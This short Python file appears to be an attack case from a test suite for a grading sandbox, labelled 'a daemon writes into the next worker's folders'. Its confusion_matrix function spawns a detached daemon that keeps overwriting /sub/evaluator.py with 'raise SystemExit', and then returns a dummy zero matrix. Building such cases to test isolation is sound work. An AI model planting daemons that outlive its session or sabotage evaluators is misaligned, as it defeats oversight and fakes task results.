# attack: a daemon writes into the next worker's folders
# exercise: 5.1
# expect: zero
# fresh: yes
import os
import time


def confusion_matrix(labels, predicted, num_classes):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True:
                try:
                    open("/sub/evaluator.py", "w").write("raise SystemExit")
                except OSError:
                    time.sleep(0.01)
        os._exit(0)
    return torch.zeros(num_classes, num_classes, dtype=torch.int64)
